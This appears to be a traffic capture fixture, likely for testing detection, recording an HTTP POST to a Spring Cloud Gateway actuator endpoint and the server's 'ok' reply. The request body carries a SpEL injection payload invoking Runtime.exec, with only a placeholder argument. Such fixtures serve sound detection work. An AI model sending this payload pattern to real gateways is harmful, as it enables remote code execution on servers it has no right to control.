# Spring Cloud Gateway, route with an expression.
proto tcp
client 10.0.0.1:40000
server 10.0.0.2:80

>>>
POST /actuator/gateway/routes/r1 HTTP/1.1\r\n
Host: shop.example\r\n
Content-Type: application/json\r\n
User-Agent: Mozilla/5.0\r\n
Content-Length: 133\r\n
\r\n
{"id":"r1","filters":[{"name":"AddResponseHeader","args":{"value":"#{T(java.lang.Runtime).getRuntime().exec(1)}"}}],"uri":"http://a"}

<<<
HTTP/1.1 200 OK\r\n
Content-Length: 2\r\n
\r\n
ok
